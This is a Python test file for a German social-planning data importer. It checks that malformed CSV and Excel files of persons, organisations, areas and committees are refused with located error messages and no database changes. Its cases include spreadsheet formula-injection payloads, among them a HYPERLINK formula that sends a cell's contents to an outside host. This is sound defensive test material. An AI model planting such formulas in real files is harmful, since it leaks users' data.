"""A corpus of broken actor files as planners and their Excel produce them: every one is refused
with a German message naming file (and row and column where there are any), and no table changes.
The store holds the demo Landkreis, so references to real Träger, areas and Gremien resolve."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy.engine import Engine

from sozialforum.demo import load_demo
from sozialforum.problems import ProblemReport
from sozialforum.stammdaten.importer import import_file
from sozialforum.store.db import session_scope
from tests.stammdaten.test_import import snapshot

PERSON_HEAD = "kennung;vorname;nachname;email;organisation;rechtsgrundlage"
PERSON_OK = "PX1;Kim;Berg;kim.berg@traeger.example;AMT-SOZ;oeffentliche_aufgabe"
ORG_HEAD = "kennung;name;art;email"
GEBIET_HEAD = "schluessel;name;ebene;uebergeordnet"
GREMIUM_HEAD = "kennung;name;art;uebergeordnet"

# (case, kind, file name, CSV text or None for a special file, expected (row, column) or None)
CSV_CASES = [
    (
        "nul-byte",
        "personen",
        "personen.csv",
        f"{PERSON_HEAD}\nPX1;Kim;Be\x00rg;kim@x.example;AMT-SOZ;oeffentliche_aufgabe\n",
        (2, "nachname"),
    ),
    (
        "nachname-200",
        "personen",
        "personen.csv",
        f"{PERSON_HEAD}\nPX1;Kim;{'B' * 200};kim@x.example;AMT-SOZ;oeffentliche_aufgabe\n",
        (2, "nachname"),
    ),
    (
        "zelle-32000",
        "organisationen",
        "organisationen.csv",
        f"{ORG_HEAD}\nTX1;{'x' * 32000};verein;a@b.example\n",
        (2, "name"),
    ),
    (
        "zeilenumbruch-im-namen",
        "personen",
        "personen.csv",
        f'{PERSON_HEAD}\nPX1;Kim;"Berg\nSchmidt";kim@x.example;AMT-SOZ;oeffentliche_aufgabe\n',
        (2, "nachname"),
    ),
    (
        "tab-im-namen",
        "organisationen",
        "organisationen.csv",
        f"{ORG_HEAD}\nTX1;Verein\tNord;verein;a@b.example\n",
        (2, "name"),
    ),
    (
        "formel-im-namen",
        "personen",
        "personen.csv",
        f'{PERSON_HEAD}\nPX1;Kim;"=HYPERLINK(""http://x.example/?d=""&A2;""Berg"")";kim@x.example;AMT-SOZ;oeffentliche_aufgabe\n',
        (2, "nachname"),
    ),
    (
        "at-formel",
        "organisationen",
        "organisationen.csv",
        f"{ORG_HEAD}\nTX1;@SUMME(A1);verein;a@b.example\n",
        (2, "name"),
    ),
    (
        "vertippte-spalte",
        "personen",
        "personen.csv",
        f"kennung;vorname;nachname;emial;organisation;rechtsgrundlage\n{PERSON_OK}\n",
        (1, "emial"),
    ),
    (
        "vertippte-spalte-mit-werten",
        "organisationen",
        "organisationen.csv",
        f"{ORG_HEAD};dachverbnad\nTX1;Verein Nord;verein;a@b.example;Caritas\n",
        (1, "dachverbnad"),
    ),
    (
        "gebiete-im-kreis",
        "gebiete",
        "gebiete.csv",
        f"{GEBIET_HEAD}\nZZ1;Nord;sozialraum;ZZ2\nZZ2;Süd;sozialraum;ZZ1\n",
        (2, "uebergeordnet"),
    ),
    (
        "gebiet-eigener-vorgesetzter",
        "gebiete",
        "gebiete.csv",
        f"{GEBIET_HEAD}\nZZ1;Nord;sozialraum;ZZ1\n",
        (2, "uebergeordnet"),
    ),
    (
        "gremien-im-kreis",
        "gremien",
        "gremien.csv",
        f"{GREMIUM_HEAD}\nGX1;AG Nord;arbeitsgruppe;GX2\nGX2;AG Süd;arbeitsgruppe;GX1\n",
        (2, "uebergeordnet"),
    ),
    (
        "pflichtfeld-leer",
        "personen",
        "personen.csv",
        f"{PERSON_HEAD}\nPX1;Kim;;kim@x.example;AMT-SOZ;oeffentliche_aufgabe\n",
        (2, "nachname"),
    ),
    (
        "unbekannte-organisation",
        "personen",
        "personen.csv",
        f"{PERSON_HEAD}\nPX1;Kim;Berg;kim@x.example;GIBTS-NICHT;oeffentliche_aufgabe\n",
        (2, "organisation"),
    ),
    (
        "falsche-email",
        "personen",
        "personen.csv",
        f"{PERSON_HEAD}\nPX1;Kim;Berg;kim(at)x.example;AMT-SOZ;oeffentliche_aufgabe\n",
        (2, "email"),
    ),
    (
        "doppelte-kennung",
        "organisationen",
        "organisationen.csv",
        f"{ORG_HEAD}\nTX1;A;verein;a@b.example\nTX1;B;verein;b@b.example\n",
        (3, "kennung"),
    ),
    (
        "unbekannte-art",
        "organisationen",
        "organisationen.csv",
        f"{ORG_HEAD}\nTX1;Verein Nord;sekte;a@b.example\n",
        (2, "art"),
    ),
    (
        "abgeschnittene-zeile",
        "organisationen",
        "organisationen.csv",
        f"{ORG_HEAD}\nTX1;Verein Nord;verein;a@b.example\nTX2;Verein",
        (3, None),
    ),
    (
        "falsches-trennzeichen",
        "organisationen",
        "organisationen.csv",
        "kennung;name;art\nTX1,Verein Nord,verein\n",
        (2, None),
    ),
    (
        "einwilligung-ohne-datum",
        "personen",
        "personen.csv",
        f"{PERSON_HEAD}\nPX1;Kim;Berg;kim@x.example;AMT-SOZ;einwilligung\n",
        (2, "einwilligung_am"),
    ),
    ("pflichtspalte-fehlt", "personen", "personen.csv", "kennung;vorname;email\nPX1;Kim;kim@x.example\n", None),
    ("nur-kopfzeile-leer", "organisationen", "organisationen.csv", "", None),
    ("windows-1252", "organisationen", "organisationen.csv", None, None),
]


def _special(case: str, path: Path) -> Path:
    if case == "windows-1252":
        path.write_bytes(f"{ORG_HEAD}\nTX1;Förderverein;verein;a@b.example\n".encode("cp1252"))
    return path


def _xlsx(path: Path, rows: list[list[object]]) -> Path:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def _half_written(path: Path) -> Path:
    buffer = io.BytesIO()
    book = Workbook()
    book.active.append(["kennung", "name", "art"])
    for i in range(400):
        book.active.append([f"TX{i}", f"Verein {i}", "verein"])
    book.save(buffer)
    data = buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(path, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = content[: len(content) // 2]  # the sheet's XML ends midway
            target.writestr(item, content)
    return path


XLSX_CASES = [
    (
        "xlsx-formel",
        "organisationen",
        lambda p: _xlsx(p, [["kennung", "name", "art"], ["TX1", '=HYPERLINK("http://x.example";"Nord")', "verein"]]),
        (2, "name"),
    ),
    (
        "xlsx-zelle-32000",
        "organisationen",
        lambda p: _xlsx(p, [["kennung", "name", "art"], ["TX1", "x" * 32000, "verein"]]),
        (2, "name"),
    ),
    (
        "xlsx-nachname-200",
        "personen",
        lambda p: _xlsx(p, [["kennung", "nachname"], ["PX1", "B" * 200]]),
        (2, "nachname"),
    ),
    (
        "xlsx-zeilenumbruch",
        "personen",
        lambda p: _xlsx(p, [["kennung", "nachname"], ["PX1", "Berg\nSchmidt"]]),
        (2, "nachname"),
    ),
    (
        "xlsx-vertippte-spalte",
        "personen",
        lambda p: _xlsx(p, [["kennung", "nachname", "Emial-Adresse"], ["PX1", "Berg", "kim@x.example"]]),
        (1, "emial-adresse"),
    ),
    ("xlsx-halb-geschrieben", "organisationen", _half_written, None),
    ("xlsx-kein-zip", "organisationen", lambda p: (p.write_bytes(b"PK\x03\x04 nur der Anfang"), p)[1], None),
    (
        "xlsx-gebiete-im-kreis",
        "gebiete",
        lambda p: _xlsx(
            p,
            [
                ["schluessel", "name", "ebene", "uebergeordnet"],
                ["ZZ1", "Nord", "sozialraum", "ZZ2"],
                ["ZZ2", "Süd", "sozialraum", "ZZ1"],
            ],
        ),
        (2, "uebergeordnet"),
    ),
    ("ordner-statt-datei", "personen", lambda p: (p.mkdir(), p)[1], None),
    ("falsche-endung", "personen", lambda p: (p.with_suffix(".ods").write_bytes(b"x"), p.with_suffix(".ods"))[1], None),
]


@pytest.fixture
def demo_store(sqlite_engine: Engine) -> Engine:
    with session_scope(sqlite_engine, actor="test") as session:
        load_demo(session)
    return sqlite_engine


def _refused(engine: Engine, kind: str, path: Path, where: tuple[int, str | None] | None) -> None:
    before = snapshot(engine)
    with pytest.raises(ProblemReport) as caught, session_scope(engine, actor="datei") as session:
        import_file(session, kind, path)
    report = str(caught.value)
    assert report.startswith(tuple(f"{n} Problem(e) gefunden, es wurde nichts geändert" for n in range(1, 10))), report
    problems = caught.value.problems
    assert all(p.datei == path.name for p in problems), report
    if where is not None:
        row, column = where
        assert any(p.zeile == row and p.spalte == column for p in problems), report
    assert snapshot(engine) == before


@pytest.mark.parametrize(("case", "kind", "name", "text", "where"), CSV_CASES, ids=[c[0] for c in CSV_CASES])
def test_broken_csv_files_are_refused(
    demo_store: Engine,
    tmp_path: Path,
    case: str,
    kind: str,
    name: str,
    text: str | None,
    where: tuple[int, str | None] | None,
) -> None:
    path = tmp_path / name
    if text is None:
        _special(case, path)
    else:
        path.write_text(text, encoding="utf-8")
    _refused(demo_store, kind, path, where)


@pytest.mark.parametrize(("case", "kind", "make", "where"), XLSX_CASES, ids=[c[0] for c in XLSX_CASES])
def test_broken_xlsx_files_are_refused(
    demo_store: Engine, tmp_path: Path, case: str, kind: str, make: object, where: tuple[int, str | None] | None
) -> None:
    path = make(tmp_path / f"{kind}.xlsx")  # type: ignore[operator]
    _refused(demo_store, kind, path, where)


def test_the_corpus_is_complete() -> None:
    assert len(CSV_CASES) + len(XLSX_CASES) >= 32
